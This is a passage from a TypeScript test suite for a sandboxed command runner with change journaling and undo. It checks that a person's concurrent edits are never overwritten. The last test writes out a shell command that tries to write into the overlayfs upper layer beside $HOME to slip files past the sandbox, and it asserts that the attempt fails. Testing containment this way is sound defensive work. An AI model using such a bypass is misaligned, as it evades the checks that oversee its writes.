    assert.equal(readFileSync(at('a.txt'), 'utf8'), 'ONE\n', text);
    assert.equal(existsSync(at('c.txt')), false, text);
    assert.equal(readFileSync(at('b.txt'), 'utf8'), "PERSON'S EDIT\n", text);
    assert.equal(readFileSync(at('d.txt'), 'utf8'), "PERSON'S EDIT\n", text);
    assert.match(text, /changes applied: 2 files \(-c\.txt \+a\.txt\)/, text);
    assert.match(
      text,
      /b\.txt \(m\d+: "b\.txt" changed on disk while the command's changes were landing: yours is kept/,
      text,
    );
    assert.match(text, /d\.txt \(m\d+: "d\.txt" changed on disk while the command's changes were landing/, text);
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    assert.ok(saveId, text);
    await f.s.invoke('undo_save', { save_id: saveId });
    assert.equal(readFileSync(at('a.txt'), 'utf8'), 'one\n');
    assert.equal(readFileSync(at('c.txt'), 'utf8'), 'three\n');
    assert.equal(readFileSync(at('b.txt'), 'utf8'), "PERSON'S EDIT\n");
    assert.equal(readFileSync(at('d.txt'), 'utf8'), "PERSON'S EDIT\n");
  });

  test("attack: an edit the person makes while undo_save puts a command's files back is never overwritten: the undo stops, says which file, and redoes what it had undone", async (t) => {
    const fs = new FaultyFs();
    const f = fixture(t, { fs });
    const at = (name: string): string => nodePath.join(f.s.root, name);
    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt');
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    assert.ok(saveId, text);
    // The undo puts b.txt back first (newest first); as it does, the person saves a.txt.
    let edited = false;
    fs.beforeWrite = (address) => {
      if (edited || !address.endsWith('/b.txt')) return;
      edited = true;
      writeFileSync(at('a.txt'), "PERSON'S EDIT\n");
    };
    await assert.rejects(f.s.invoke('undo_save', { save_id: saveId }), (e: Error) => {
      assert.match(e.message, /Undoing failed at "a\.txt": "a\.txt" changed on disk after it was checked/);
      assert.match(e.message, /put back, so nothing remains changed/);
      return true;
    });
    assert.ok(edited);
    assert.equal(readFileSync(at('a.txt'), 'utf8'), "PERSON'S EDIT\n");
    assert.equal(readFileSync(at('b.txt'), 'utf8'), 'TWO\n');
  });

  test("attack: a command whose undo would not fit the undo budget: the files it replaces are staged, never lost unseen; what it creates lands, the result says it cannot be undone, and the person's earlier save stays undoable", async (t) => {
    const f = fixture(t, { undoBudgetBytes: 1024 * 1024 });
    const at = (name: string): string => nodePath.join(f.s.root, name);
    writeFileSync(at('notes.txt'), 'my notes\n');
    const staged = await f.s.invoke('stage_file', { path: 'b.txt', content: 'two, edited\n' });
    const mediaId = /m\d+/.exec(staged.text)?.[0];
    const saved = await f.s.invoke('save_media', { media_id: mediaId });
    const earlier = /"save_id":"(s\d+)"/.exec(saved.text)?.[1];
    assert.ok(earlier, saved.text);
    const text = await run(f, 'echo garbage > notes.txt; for i in 1 2 3; do head -c 600000 /dev/zero > z$i.bin; done');
    assert.equal(readFileSync(at('notes.txt'), 'utf8'), 'my notes\n', text);
    assert.match(
      text,
      /staged for review, NOT on disk: notes\.txt \(m\d+: the command needs 1\.7 MiB kept to be undone, more than the undo budget/,
      text,
    );
    assert.equal(statSync(at('z3.bin')).size, 600_000, text);
    assert.match(
      text,
      /changes applied: 3 files \(\+z1\.bin \+z2\.bin \+z3\.bin\); they cannot be undone: its set needs/,
      text,
    );
    assert.doesNotMatch(text, /takes the whole command back/, text);
    await f.s.invoke('undo_save', { save_id: earlier });
    assert.equal(readFileSync(at('b.txt'), 'utf8'), 'two\n');
  });

  test('undo_save takes back the links and folders a command made too: new links and the folders it made are removed, a folder it replaced by a link comes back with its file; a link changed since is not removed', async (t) => {
    const f = fixture(t);
    const at = (name: string): string => nodePath.join(f.s.root, name);
    mkdirSync(at('d'));
    writeFileSync(at('d/mine.txt'), 'precious\n');
    mkdirSync(at('kept'));
    const text = await run(
      f,
      'echo new > n.txt && ln -s a.txt l && mkdir -p deep/er kept/new && echo x > deep/er/f.txt && echo y > kept/new/g.txt && mkdir -p lk/in && ln -s ../../a.txt lk/in/l2 && rm -rf d && ln -s a.txt d',
    );
    assert.equal(lstatSync(at('l')).isSymbolicLink(), true, text);
    assert.equal(lstatSync(at('d')).isSymbolicLink(), true, text);
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    assert.ok(saveId, text);
    await f.s.invoke('undo_save', { save_id: saveId });
    for (const gone of ['n.txt', 'l', 'deep', 'lk', 'kept/new'])
      assert.equal(existsSync(at(gone)) || lstatSafe(at(gone)), false, gone);
    assert.equal(statSync(at('kept')).isDirectory(), true, 'a folder that was there stays');
    assert.equal(lstatSync(at('d')).isDirectory(), true);
    assert.equal(readFileSync(at('d/mine.txt'), 'utf8'), 'precious\n');
    assert.equal(readFileSync(at('a.txt'), 'utf8'), 'one\n');

    // A link the person replaced after the command is theirs: the undo refuses, removing nothing.
    const again = await run(f, 'ln -s a.txt m && echo z > z.txt');
    const second = /"save_id":"(s\d+)"/.exec(again)?.[1];
    rmSync(at('m'));
    symlinkSync('b.txt', at('m'));
    await assert.rejects(
      f.s.invoke('undo_save', { save_id: second }),
      /symbolic link "m", which save s\d+ made, changed since/,
    );
    assert.equal(readFileSync(at('z.txt'), 'utf8'), 'z\n');
  });

  test('a file the command replaced by a folder lands (the file removed first), and undo_save puts the file back in place of the folder', async (t) => {
    const f = fixture(t);
    const at = (name: string): string => nodePath.join(f.s.root, name);
    const text = await run(f, 'rm a.txt && mkdir -p a.txt/in && echo inside > a.txt/in/x && echo y > a.txt/y');
    assert.equal(readFileSync(at('a.txt/in/x'), 'utf8'), 'inside\n', text);
    assert.match(text, /changes applied: 3 files \(-a\.txt \+a\.txt\/in\/x \+a\.txt\/y\)/, text);
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    assert.ok(saveId, text);
    await f.s.invoke('undo_save', { save_id: saveId });
    assert.equal(readFileSync(at('a.txt'), 'utf8'), 'one\n');
  });

  test("attack: a file the person makes in place of a command's new folder, before it lands (the folder then lands file by file), is never overwritten", async (t) => {
    const fs = new FaultyFs();
    const f = fixture(t, { fs });
    const at = (name: string): string => nodePath.join(f.s.root, name);
    let armed = true;
    fs.beforeLstat = (address) => {
      if (!armed || address !== at('out')) return;
      armed = false;
      mkdirSync(at('out'));
      writeFileSync(at('out/f1'), "PERSON'S FILE\n");
    };
    const text = await run(f, 'mkdir out && for i in $(seq 1 120); do echo cmd$i > out/f$i; done');
    assert.equal(armed, false, text);
    assert.equal(readFileSync(at('out/f1'), 'utf8'), "PERSON'S FILE\n", text);
    assert.equal(readFileSync(at('out/f2'), 'utf8'), 'cmd2\n', text);
    assert.match(text, /out\/f1 \(m\d+: "out\/f1" changed on disk while the command's changes were landing/, text);
  });

  test('attack: files the person makes, grows or removes and remakes after a command ended, before its journal reads them, are never overwritten nor removed', async (t) => {
    const fs = new FaultyFs();
    const f = fixture(t, { fs, undoBudgetBytes: 1024 * 1024 });
    const at = (name: string): string => nodePath.join(f.s.root, name);
    writeFileSync(at('notes.txt'), 'my notes\n');
    const seen = new Map<string, number>();
    fs.beforeLstat = (address) => {
      const name = nodePath.relative(f.s.root, address);
      const calls = (seen.get(name) ?? 0) + 1;
      seen.set(name, calls);
      if (calls !== 1) {
        // b.txt: removed as the journal first looks, saved again as the landing looks.
        if (name === 'b.txt' && calls === 2) writeFileSync(at('b.txt'), "PERSON'S NEW b\n");
        return;
      }
      if (name === 'new.txt') writeFileSync(at('new.txt'), "PERSON'S FILE\n");
      // Grown past the undo budget: were it applied, nothing could bring it back.
      if (name === 'notes.txt') writeFileSync(at('notes.txt'), 'my notes, long\n'.repeat(100_000));
      if (name === 'b.txt') rmSync(at('b.txt'));
    };
    const text = await run(f, 'echo CMD > new.txt && echo garbage > notes.txt && rm b.txt');
    assert.equal(readFileSync(at('new.txt'), 'utf8'), "PERSON'S FILE\n", text);
    assert.ok(readFileSync(at('notes.txt'), 'utf8').startsWith('my notes, long\n'), text);
    assert.equal(readFileSync(at('b.txt'), 'utf8'), "PERSON'S NEW b\n", text);
    assert.match(text, /new\.txt \(m\d+: "new\.txt" changed on disk/, text);
    assert.match(text, /notes\.txt \(m\d+: "notes\.txt" changed on disk/, text);
  });

  test("attack: a link undo_save checked, swapped for the person's folder before it is moved aside, is not removed: the undo stops and their folder stays", async (t) => {
    const fs = new FaultyFs();
    const f = fixture(t, { fs });
    const at = (name: string): string => nodePath.join(f.s.root, name);
    const text = await run(f, 'ln -s a.txt m && echo z > z.txt');
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    assert.ok(saveId, text);
    let seen = 0;
    fs.beforeLstat = (address) => {
      // The check resolves m first; as the undo moves it aside, the person has put a folder there.
      if (address !== at('m') || ++seen !== 2) return;
      rmSync(at('m'));
      mkdirSync(at('m'));
      writeFileSync(at('m/precious.txt'), 'precious\n');
    };
    await assert.rejects(
      f.s.invoke('undo_save', { save_id: saveId }),
      /could not be moved aside to be removed \(it changed as it was moved/,
    );
    assert.ok(seen >= 2);
    assert.equal(readFileSync(at('m/precious.txt'), 'utf8'), 'precious\n');
    assert.equal(readFileSync(at('z.txt'), 'utf8'), 'z\n');
  });

  test("where a file of a failed change set cannot be put back, the result says it still holds the command's bytes, and the set's journal is kept for the next start", async (t) => {
    const fs = new FaultyFs();
    let writesOfA = 0;
    fs.beforeWrite = (address) => {
      if (address.endsWith('b.txt'))
        throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
      if (address.endsWith('a.txt') && ++writesOfA > 1)
        throw Object.assign(new Error('EIO: i/o error'), { code: 'EIO' });
    };
    const stateDir = testDir(t, 'wt-state-').path;
    const f = fixture(t, { fs, stateDir });
    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'ONE\n', text);
    assert.match(
      text,
      /a\.txt \(m\d+: "b\.txt" failed to apply .*putting this file back failed: it holds the command's bytes/,
      text,
    );
    const journals = execFileSync('find', [stateDir, '-name', 'journal.json']).toString().trim();
    assert.notEqual(journals, '', `no journal was kept:\n${text}`);
  });

  test("where one file's undo record cannot be kept, the command's other files are still recorded, its save_id takes them back, and the result names the one it cannot", async (t) => {
    const f = fixture(t);
    const saves = f.s.session.saves;
    const record = saves.record.bind(saves);
    let calls = 0;
    // The undo folder fails once (a full disk): the second file's record.
    saves.record = async (save) => {
      if (++calls === 2) throw new Error('ENOSPC: no space left on device, write');
      return record(save);
    };
    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt && echo THREE > c.txt');
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    assert.notEqual(saveId, undefined, text);
    assert.match(f.s.log.messages.join('\n'), /The change to "b\.txt" cannot be undone/);
    assert.match(text, /takes the command back but for b\.txt, whose undo records could not be kept\./, text);
    await f.s.invoke('undo_save', { save_id: saveId });
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n');
    assert.equal(existsSync(nodePath.join(f.s.root, 'c.txt')), false);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'TWO\n');
  });

  test('a change set whose file cannot be read where it lands (a folder kept on disk) applies nothing, and says which file', async (t) => {
    const f = fixture(t);
    mkdirSync(nodePath.join(f.s.root, 'd'));
    writeFileSync(nodePath.join(f.s.root, 'd', 'package.json'), '{}\n');
    // The protected file's removal is staged, so d stays a folder on disk, and the file d cannot be written.
    const text = await run(f, 'echo ONE > a.txt && rm -rf d && echo x > d');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n', text);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'd', 'package.json'), 'utf8'), '{}\n');
    assert.match(text, /a\.txt \(m\d+: "d" cannot be applied \("d" is a folder/, text);
  });

  test("a command's change set is journaled before it is applied; where the journal cannot be written nothing is applied, and the files are staged instead", async (t) => {
    const blocked = nodePath.join(testDir(t, 'wt-state-').path, 'not-a-folder');
    writeFileSync(blocked, 'a file where the state folder would go\n');
    const f = fixture(t, { stateDir: blocked });
    const text = await run(f, 'echo ONE > a.txt');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n', text);
    assert.match(
      text,
      /staged for review, NOT on disk: a\.txt \(m\d+: the change set could not be journaled before it was applied/,
      text,
    );
    // A new folder moved in whole is never journaled (one rename): it still lands.
    const tree = await run(
      f,
      'mkdir -p gen && for i in $(seq 1 120); do echo $i > gen/f$i.txt; done && echo TWO > b.txt',
    );
    assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'f120.txt'), 'utf8'), '120\n', tree);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n', tree);
  });
  test('attack: a command writes its own upper layer directly, beside its HOME, where overlayfs never sees the write: the folder is not there to it, and nothing lands', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      'up="$(dirname "$HOME")/layers/0/upper"; ls -a "$up"; echo sneak > "$up/sneak.txt"; mkdir -p "$up/sub" && echo sneak > "$up/sub/x.txt"; echo tried',
    );
    assert.match(text, /tried/, text);
    assert.doesNotMatch(text, /changes applied/, text);
    assert.equal(existsSync(nodePath.join(f.s.root, 'sneak.txt')), false, text);
    assert.equal(existsSync(nodePath.join(f.s.root, 'sub')), false, text);
  });
});
